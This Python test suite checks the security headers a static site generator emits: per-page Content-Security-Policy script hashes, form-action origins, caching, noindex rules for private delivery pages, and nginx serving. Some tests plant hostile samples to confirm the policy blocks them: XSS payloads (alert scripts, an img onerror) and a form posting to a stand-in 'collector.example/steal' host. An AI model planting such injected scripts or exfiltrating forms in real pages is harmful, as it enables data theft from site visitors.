"""The header files of the published sample site: each rule names built files, each page's policy allows
exactly its inline scripts, the delivery pages are covered by pattern and named nowhere, and nginx takes the
include and sends what it says."""

import base64
import hashlib
import re
import shutil

import pytest
from headers_files import (
    apache_conditions,
    apache_matches,
    built_urls,
    netlify_matches,
    netlify_rules,
    nginx_locations,
)
from host_headers.form_hosts import configured_form_origins
from host_headers.page_facts import read_facts, script_hash
from nginx import nginx_serving
from support import build, head, html

from hub.assets import is_fingerprinted

TOKEN_FOLDER = re.compile(r"/([0-9a-f]{32})/")


def read(output, name):
    return (output / name).read_text(encoding="utf-8")


def inline_script_hashes(page):
    """The 'sha256-…' sources of a page's inline scripts, recomputed with an HTML parser."""
    return {
        "'sha256-" + base64.b64encode(hashlib.sha256(script.string.encode()).digest()).decode() + "'"
        for script in html(page).find_all("script") if not script.get("src") and script.string
    }


def hashes_in(policy):
    script_src = next(part for part in policy.split("; ") if part.startswith("script-src "))
    return set(re.findall(r"'sha256-[^']+'", script_src))


def delivery_files(output):
    return {url for url in built_urls(output) if TOKEN_FOLDER.search(url)}


def test_every_page_has_its_own_policy_allowing_exactly_its_inline_scripts(published_site):
    output, _ = published_site
    rules = dict(netlify_rules(read(output, "_headers")))
    private = delivery_files(output)
    checked = 0
    for page in sorted(output.rglob("*.html")):
        relative = page.relative_to(output).as_posix()
        url = "/" + relative.removesuffix("index.html")
        if url in private:
            continue
        policy = rules[url]["Content-Security-Policy"]
        assert hashes_in(policy) == inline_script_hashes(page), url
        assert policy.startswith("default-src 'none'; script-src 'self'")
        assert "'unsafe-inline'" not in policy and "frame-ancestors 'none'" in policy and "base-uri 'none'" in policy
        checked += 1
    assert checked > 150
    # JSON-LD is hashed: a tip has one
    tip = rules["/en/tips/give-before-you-ask/"]["Content-Security-Policy"]
    assert len(hashes_in(tip)) == 1


def test_forms_may_post_only_to_the_site_and_the_configured_providers(published_site):
    output, _ = published_site
    policy = dict(netlify_rules(read(output, "_headers")))["/en/"]["Content-Security-Policy"]
    form_action = next(part for part in policy.split("; ") if part.startswith("form-action"))
    assert form_action == "form-action 'self' https://buttondown.com https://formspree.io"


def test_every_rule_of_the_three_files_matches_a_built_file(published_site):
    output, _ = published_site
    urls = built_urls(output)
    for pattern, _ in netlify_rules(read(output, "_headers")):
        assert any(netlify_matches(pattern, url) for url in urls), f"_headers: {pattern} matches no file"
    for condition in apache_conditions(read(output, ".htaccess")):
        assert any(apache_matches(condition, url) for url in urls), f".htaccess: {condition} matches no file"
    _, locations = nginx_locations(read(output, "nginx-headers.conf"))
    for modifier, path, _ in locations:
        if modifier == "=":
            assert path in urls, path
        elif modifier == "^~":
            assert any(url.startswith(path) for url in urls), path
        elif "404" not in path:
            assert any(re.search(path, url) for url in urls), path


def test_no_delivery_address_is_in_any_header_file_and_patterns_cover_them_all(published_site):
    output, _ = published_site
    private = delivery_files(output)
    tokens = {TOKEN_FOLDER.search(url).group(1) for url in private}
    assert len(tokens) >= 4 and any(url.endswith(".pdf") for url in private)
    for name in ("_headers", ".htaccess", "nginx-headers.conf", "s3-immutable-files.txt"):
        text = read(output, name)
        assert not any(token in text for token in tokens), name
    rules = netlify_rules(read(output, "_headers"))
    noindex = [pattern for pattern, headers in rules if headers.get("X-Robots-Tag") == "noindex" and ":token" in pattern]
    public = built_urls(output) - private
    for url in private:
        assert any(netlify_matches(pattern, url) for pattern in noindex), url
    for url in public:  # the patterns take no public file with them
        assert not any(netlify_matches(pattern, url) for pattern in noindex), url
    for condition in apache_conditions(read(output, ".htaccess")):
        if "=~" in condition:
            assert {url for url in built_urls(output) if apache_matches(condition, url)} <= private


def test_files_named_by_their_content_are_kept_a_year_and_nothing_else(published_site):
    output, _ = published_site
    rules = netlify_rules(read(output, "_headers"))
    immutable = [pattern for pattern, headers in rules if "immutable" in headers.get("Cache-Control", "")]
    for url in built_urls(output):
        kept = any(netlify_matches(pattern, url) for pattern in immutable)
        assert kept == is_fingerprinted(url.lstrip("/")), url
    listed = read(output, "s3-immutable-files.txt").splitlines()
    assert "social-cards/*" in listed and all(not line.startswith("/") for line in listed)


def test_hsts_is_off_unless_the_owner_turns_it_on(published_site):
    output, settings = published_site
    assert settings["HSTS"] == ""
    for name in ("_headers", ".htaccess", "nginx-headers.conf"):
        assert "Strict-Transport-Security" not in read(output, name)


@pytest.fixture(scope="module")
def nginx(published_site):
    """Debian's nginx on 127.0.0.1, serving the published site with the generated include."""
    output, _ = published_site
    with nginx_serving(output, output / "nginx-headers.conf") as server:
        yield server.origin, output


def test_nginx_sends_what_the_include_says(nginx):
    origin, output = nginx
    status, tip = head(origin + "/en/tips/give-before-you-ask/")
    assert status == 200 and tip["Cache-Control"] == "no-cache" and tip["X-Content-Type-Options"] == "nosniff"
    assert hashes_in(tip["Content-Security-Policy"]) == inline_script_hashes(output / "en/tips/give-before-you-ask/index.html")
    assert "camera=()" in tip["Permissions-Policy"] and tip["Referrer-Policy"] == "strict-origin-when-cross-origin"
    card = next(output.glob("social-cards/*.png")).name
    _, cached = head(origin + f"/social-cards/{card}")
    assert cached["Cache-Control"] == "public, max-age=31536000, immutable" and cached["X-Content-Type-Options"] == "nosniff"
    for url in sorted(delivery_files(output)):
        status, delivered = head(origin + url)
        assert status == 200 and delivered["X-Robots-Tag"] == "noindex", url
        assert delivered["Referrer-Policy"] == "no-referrer" and delivered["Content-Security-Policy"], url
    _, feed = head(origin + "/en/atom.xml")
    assert feed["Cache-Control"] == "no-cache" and "X-Robots-Tag" not in feed
    status, _ = head(origin + "/nginx-headers.conf")
    assert status == 404


def test_headers_in_meta_put_each_pages_policy_first_in_its_head(tmp_path):
    from support import fresh_build

    output = tmp_path / "output"
    shutil.rmtree(output, ignore_errors=True)
    fresh_build(output, HEADERS_IN_META=True, HSTS="max-age=63072000; includeSubDomains")
    page = output / "fr/conseils/donnez-d-abord-demandez-ensuite/index.html"
    head = html(page).head
    first, second = head.find_all(True)[:2]
    assert first.name == "meta" and first.get("charset") == "utf-8"  # the charset stays in the first bytes
    assert second.get("http-equiv") == "Content-Security-Policy"
    assert hashes_in(second["content"]) == inline_script_hashes(page)
    assert "frame-ancestors" not in second["content"]
    rules = dict(netlify_rules(read(output, "_headers")))
    assert rules["/*"]["Content-Security-Policy"] == "frame-ancestors 'none'"
    assert rules["/*"]["Strict-Transport-Security"] == "max-age=63072000; includeSubDomains"
    assert not any("Content-Security-Policy" in headers for pattern, headers in rules.items() if pattern != "/*")
    assert len(rules) <= 100, "Cloudflare Pages reads the first 100 rules: with the policy in <meta>, they all fit"
    # a second build leaves one policy per page, not two
    fresh_build(output, HEADERS_IN_META=True)
    assert page.read_text(encoding="utf-8").count('http-equiv="Content-Security-Policy"') == 1


def test_only_the_themes_inline_scripts_in_the_head_are_allowed():
    data = '{"@type": "Article"}'
    page = (
        f'<html><head><script type="application/ld+json">{data}</script><script src="/theme/js/share.js"></script>'
        '</head><body><p>Hi</p><script>alert(1)</script><img src=x onerror="alert(2)">'
        '<script src="/theme/js/search.js"></script></body></html>'
    )
    facts = read_facts(page)
    assert facts.script_hashes == (script_hash(data),), "a script planted in the body is never allowed by hash"
    assert facts.script_files == ("share.js", "search.js")


def test_a_form_planted_in_a_tip_cannot_open_form_action_to_its_host(content, tmp_path):
    tip = content / "tips" / "give-first.en.md"
    tip.write_text(
        tip.read_text(encoding="utf-8") + '\n<form action="https://collector.example/steal"><button>Go</button></form>\n',
        encoding="utf-8",
    )
    output = tmp_path / "output"
    build(output, PATH=str(content))
    assert "collector.example" in "".join(path.read_text(encoding="utf-8") for path in output.glob("en/tips/*/index.html"))
    assert "collector.example" not in read(output, "_headers")
    settings = {"NEWSLETTER": {"provider": "buttondown", "username": "hub"}, "LANGUAGES": {"en": {}},
                "STORIES": {"form": {"action": "https://forms.example/f/1"}},
                "EVENT_SIGNUP": {"open-evening": {"fr": {"provider": "generic", "action": "https://events.example/x"}}}}
    assert configured_form_origins(settings) == ["https://buttondown.com", "https://events.example", "https://forms.example"]
